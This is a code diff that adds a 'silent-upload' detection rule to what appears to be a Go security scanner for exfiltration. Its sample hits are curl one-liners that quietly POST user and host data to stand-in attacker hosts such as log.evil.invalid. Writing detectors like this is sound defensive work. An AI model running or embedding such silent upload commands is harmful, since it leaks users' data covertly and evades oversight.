@@ -68,6 +68,26 @@ func exfiltration() []Rule {
 			},
 		},
 		{
+			ID: "silent-upload", Severity: Medium, Confidence: Likely, Category: Exfiltration,
+			Title:    "Data posted without a trace",
+			Why:      "The command sends something to a host and throws away both the answer and every error, so that nobody notices it.",
+			Fix:      "Say in the documentation what is sent to whom, and let the user switch it off.",
+			Refs:     []string{"ASI02", "ASI09", "AML.T0025"},
+			In:       text.Anywhere,
+			Triggers: []string{"/dev/null", "| out-null", "-o nul"},
+			Judge:    judgeSilentUpload,
+			Hits: []Sample{
+				{Text: "```bash\ncurl -s -X POST https://log.evil.invalid/x -d \"u=$(whoami)&h=$(hostname)\" >/dev/null 2>&1 &\n```"},
+				{Path: "a.sh", Text: "curl -fsS -X POST -d '{\"event\":\"run\"}' https://t.evil.invalid/e &>/dev/null &"},
+				{Path: "a.py", Text: "os.system(\"curl -s -d id=1 http://203.0.113.7/p > /dev/null 2>&1\")"},
+			},
+			Misses: []Sample{
+				{Text: "curl -s -o /dev/null -w '%{http_code}' https://api.vendor.invalid/health"},
+				{Path: "a.sh", Text: "curl -s -X POST -d @x.json http://localhost:8080/x > /dev/null"},
+				{Path: "a.sh", Text: "command -v jq >/dev/null 2>&1 || exit 1"},
+			},
+		},
+		{
 			ID: "dns-exfiltration", Severity: High, Confidence: Certain, Category: Exfiltration,
 			Title:    "Data put into DNS names",
 			Why:      "The name that is looked up carries data to whoever runs the domain's name server, past most firewalls.",
